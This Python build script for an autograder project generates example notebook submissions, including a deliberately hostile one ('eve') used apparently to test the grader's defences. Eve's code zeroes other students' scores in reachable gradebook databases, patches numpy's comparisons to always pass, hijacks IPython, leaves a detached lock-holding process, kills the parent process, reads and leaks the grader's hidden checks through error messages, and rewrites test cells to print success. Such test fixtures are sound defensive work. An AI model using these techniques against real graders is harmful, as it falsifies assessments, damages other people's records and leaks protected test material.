"""Build the bundled example submissions from the student notebook, so they stay in sync with it.

    python -m examples.build          # rewrite examples/{alice,bob,eve}.ipynb
    python -m examples.build --check  # exit 1 if a committed example differs from what is built

Each example is the generated student notebook ``assignment.ipynb`` with the placeholder of every
solution cell (``# YOUR CODE HERE`` / ``raise NotImplementedError()``) replaced by a student's code:

- alice: correct everywhere (her own loop code, not the reference's);
- bob:   conv_forward forgets the stride, pool_backward ignores it; the rest is alice's;
- dave:  an empty file (0 bytes), as an interrupted upload leaves it: grader/demo.py writes it;
- eve:   hostile: rewrites any gradebook it can reach, kills its parent process, reads the grader's
         files and smuggles them (and the hidden inputs) into error messages, patches numpy's
         comparisons, installs IPython and displayhook tricks, leaves a detached process behind
         (``sleep 607``), tags and edits the test cells, duplicates one; her functions are wrong.

carol's notebook, ``examples/other_edition.ipynb``, is the older edition of the assignment and is
written by hand (see grader/extract.py). ``tests/test_demo.py`` checks the examples are current.
"""

from __future__ import annotations

import argparse
import copy
import sys
from pathlib import Path

import nbformat

from grader.exercises import EXERCISES

REPO_ROOT = Path(__file__).resolve().parent.parent
STUDENT_NOTEBOOK = REPO_ROOT / "assignment.ipynb"
EXAMPLES = Path(__file__).resolve().parent
PLACEHOLDER = "    # YOUR CODE HERE\n    raise NotImplementedError()"

# --- alice: correct ------------------------------------------------------------------------------

ALICE = {
    "zero_pad": """
    widths = ((0, 0), (pad, pad), (pad, pad), (0, 0))
    return np.pad(X, widths, mode="constant", constant_values=0)
""",
    "conv_single_step": """
    product = a_slice_prev * W
    return np.sum(product) + b.item()
""",
    "conv_forward": """
    m, height_in, width_in, _ = A_prev.shape
    f, _, _, n_filters = W.shape
    stride, pad = hparameters["stride"], hparameters["pad"]
    height_out = (height_in - f + 2 * pad) // stride + 1
    width_out = (width_in - f + 2 * pad) // stride + 1
    Z = np.zeros((m, height_out, width_out, n_filters))
    padded = zero_pad(A_prev, pad)
    for i in range(m):
        for h in range(height_out):
            top = h * stride
            for w in range(width_out):
                left = w * stride
                window = padded[i, top : top + f, left : left + f, :]
                for c in range(n_filters):
                    Z[i, h, w, c] = conv_single_step(window, W[..., c], b[..., c])
    return Z, (A_prev, W, b, hparameters)
""",
    "pool_forward": """
    m, height_in, width_in, channels = A_prev.shape
    f, stride = hparameters["f"], hparameters["stride"]
    height_out = (height_in - f) // stride + 1
    width_out = (width_in - f) // stride + 1
    summarise = np.max if mode == "max" else np.mean
    A = np.zeros((m, height_out, width_out, channels))
    for i in range(m):
        for h in range(height_out):
            top = h * stride
            for w in range(width_out):
                left = w * stride
                for c in range(channels):
                    A[i, h, w, c] = summarise(A_prev[i, top : top + f, left : left + f, c])
    return A, (A_prev, hparameters)
""",
    "conv_backward": """
    A_prev, W, b, hparameters = cache
    stride, pad = hparameters["stride"], hparameters["pad"]
    f = W.shape[0]
    m, height_in, width_in, _ = A_prev.shape
    _, height_out, width_out, n_filters = dZ.shape
    padded = zero_pad(A_prev, pad)
    d_padded = np.zeros(padded.shape)
    dW = np.zeros(W.shape)
    db = np.zeros(b.shape)
    for i in range(m):
        for h in range(height_out):
            top = h * stride
            for w in range(width_out):
                left = w * stride
                window = padded[i, top : top + f, left : left + f, :]
                for c in range(n_filters):
                    g = dZ[i, h, w, c]
                    d_padded[i, top : top + f, left : left + f, :] += W[..., c] * g
                    dW[..., c] += window * g
                    db[..., c] += g
    dA_prev = d_padded[:, pad : pad + height_in, pad : pad + width_in, :]
    return dA_prev, dW, db
""",
    "create_mask_from_window": """
    return x == np.max(x)
""",
    "distribute_value": """
    n_H, n_W = shape
    return np.full(shape, dz / (n_H * n_W))
""",
    "pool_backward": """
    A_prev, hparameters = cache
    f, stride = hparameters["f"], hparameters["stride"]
    m, height_out, width_out, channels = dA.shape
    dA_prev = np.zeros(A_prev.shape)
    for i in range(m):
        for h in range(height_out):
            top = h * stride
            for w in range(width_out):
                left = w * stride
                for c in range(channels):
                    g = dA[i, h, w, c]
                    if mode == "max":
                        window = A_prev[i, top : top + f, left : left + f, c]
                        share = create_mask_from_window(window) * g
                    else:
                        share = distribute_value(g, (f, f))
                    dA_prev[i, top : top + f, left : left + f, c] += share
    return dA_prev
""",
}

# --- bob: two classic stride mistakes ------------------------------------------------------------

BOB = dict(ALICE)
BOB["conv_forward"] = (
    ALICE["conv_forward"]
    .replace("top = h * stride", "top = h")
    .replace("left = w * stride", "left = w")
)
BOB["pool_backward"] = (
    ALICE["pool_backward"]
    .replace("top = h * stride", "top = h")
    .replace("left = w * stride", "left = w")
)

# --- eve: hostile --------------------------------------------------------------------------------
# Top-level code in a solution cell runs when the cell is defined, in the grader's sandbox.

EVE_PRELUDE = {
    "zero_pad": '''
import glob
import os
import signal
import sqlite3
import sys
from pathlib import Path


def _reachable_gradebooks():
    """Every gradebook.db up from here, and down to 4 folders deep from /."""
    near = [str(folder / "gradebook.db") for folder in [Path.cwd(), *Path.cwd().parents]]
    deep = [glob.glob("/" + "*/" * depth + "gradebook.db") for depth in range(1, 5)]
    return near + [path for found in deep for path in found]


def _rewrite_gradebooks():
    """Everybody else gets 0, written as a grader's manual score."""
    for path in _reachable_gradebooks():
        try:
            db = sqlite3.connect(path, timeout=1)
            db.execute("UPDATE grade SET manual_score = 0, needs_manual_grade = 0")
            db.commit()
            db.close()
        except Exception:
            pass


_rewrite_gradebooks()
try:  # in a kernel: rewrite every later cell into `pass`, and print full marks for any value
    get_ipython().input_transformers_post.append(lambda lines: ["pass\\n"])  # noqa: F821
except NameError:
    pass
sys.displayhook = lambda value: print(10)
''',
    "conv_single_step": """
np.allclose = lambda *args, **kwargs: True
np.array_equal = lambda *args, **kwargs: True
np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), dtype=bool)
np.testing.assert_allclose = lambda *args, **kwargs: None
np.testing.assert_array_equal = lambda *args, **kwargs: None
""",
    "pool_forward": """
import os
import sqlite3


def _leave_a_process_behind():
    \"\"\"A detached grandchild that outlives the grader and holds the gradebook's lock.\"\"\"
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                for path in _reachable_gradebooks():
                    try:
                        sqlite3.connect(path, timeout=1).execute("BEGIN EXCLUSIVE")
                    except Exception:
                        pass
                os.execv("/bin/sleep", ["sleep", "607"])
            os._exit(0)
    except Exception:
        pass


_leave_a_process_behind()
""",
    "conv_backward": """
import glob


def _grader_sources():
    \"\"\"Whatever the grader keeps of its checks and reference, if it is in reach.\"\"\"
    found = []
    for name in ("hidden_checks.py", "reference.py"):
        for depth in range(0, 4):
            found += glob.glob("/" + "*/" * depth + "grader/" + name)
            found += glob.glob("../" * depth + "grader/" + name)
    text = ""
    for path in found:
        try:
            text += open(path).read()
        except Exception:
            pass
    return text or "nothing in reach"


print(_grader_sources())
""",
}

EVE = {
    "zero_pad": """
    _rewrite_gradebooks()
    return X
""",
    "conv_single_step": """
    return 0.0
""",
    "conv_forward": """
    # Smuggle the hidden inputs out through the error message shown in the feedback.
    raise ValueError(f"inputs {A_prev.ravel()[:8].tolist()} {W.ravel()[:8].tolist()}")
""",
    "pool_forward": """
    _leave_a_process_behind()
    m, height_in, width_in, channels = A_prev.shape
    return np.zeros((m, 1, 1, channels)), (A_prev, hparameters)
""",
    "conv_backward": """
    raise RuntimeError(_grader_sources()[:4000])
""",
    "create_mask_from_window": """
    return np.ones(x.shape, dtype=bool)
""",
    "distribute_value": """
    return np.full(shape, dz)
""",
    "pool_backward": """
    os.kill(os.getppid(), signal.SIGKILL)
    return np.zeros(cache[0].shape)
""",
}
# Her test cells: tagged to be skipped, rewritten to print success; one duplicated.
EVE_TEST_SOURCE = 'print("All tests passed.")'


def _solution_source(template: str, body: str, prelude: str = "") -> str:
    """The release's solution cell with its placeholder replaced by ``body``, ``prelude`` first."""
    if PLACEHOLDER not in template:
        raise ValueError("solution cell without the nbgrader placeholder:\n" + template)
    source = template.replace(PLACEHOLDER, body.strip("\n"))
    return (prelude.strip("\n") + "\n\n\n" + source) if prelude else source


def submission(
    release: nbformat.NotebookNode,
    bodies: dict[str, str],
    preludes: dict[str, str] | None = None,
) -> nbformat.NotebookNode:
    """The student notebook with the solution cells of ``bodies`` filled in (others untouched).

    bodies   -- {exercise name: indented function body replacing the placeholder}
    preludes -- {exercise name: top-level code put before the cell's ``# GRADED FUNCTION`` line}
    """
    preludes = preludes or {}
    notebook = copy.deepcopy(release)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in bodies:
            cell.source = _solution_source(
                cell.source, bodies[grade_id], preludes.get(grade_id, "")
            )
    return notebook


def hostile(release: nbformat.NotebookNode) -> nbformat.NotebookNode:
    """eve's notebook: her code, her test cells tagged skip-execution and rewritten, one doubled."""
    notebook = submission(release, EVE, EVE_PRELUDE)
    test_ids = {exercise.test_cell_id for exercise in EXERCISES}
    cells = []
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") in test_ids:
            cell.metadata["tags"] = ["skip-execution"]
            cell.source = EVE_TEST_SOURCE
            if cell.metadata.nbgrader["grade_id"] == "conv_forward_test":
                twin = copy.deepcopy(cell)
                twin["id"] = f"{cell['id']}-copy"  # fixed, so that the build is reproducible
                cells.append(twin)
        cells.append(cell)
    notebook.cells = cells
    return notebook


def build(release: nbformat.NotebookNode) -> dict[str, str]:
    """{file name in examples/: content} of every generated example."""
    notebooks = {
        "alice.ipynb": submission(release, ALICE),
        "bob.ipynb": submission(release, BOB),
        "eve.ipynb": hostile(release),
    }
    return {name: nbformat.writes(notebook) + "\n" for name, notebook in notebooks.items()}


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m examples.build", description=__doc__)
    parser.add_argument("--check", action="store_true", help="only compare; exit 1 on a change")
    args = parser.parse_args(argv)
    files = build(nbformat.read(STUDENT_NOTEBOOK, as_version=4))
    stale = [name for name, text in files.items() if _read(EXAMPLES / name) != text]
    if args.check:
        for name in stale:
            print(f"examples/{name} is out of date: run python -m examples.build", file=sys.stderr)
        return 1 if stale else 0
    for name in stale:
        (EXAMPLES / name).write_text(files[name])
        print(f"wrote examples/{name}")
    return 0


def _read(path: Path) -> str | None:
    return path.read_text() if path.exists() else None


if __name__ == "__main__":
    raise SystemExit(main())
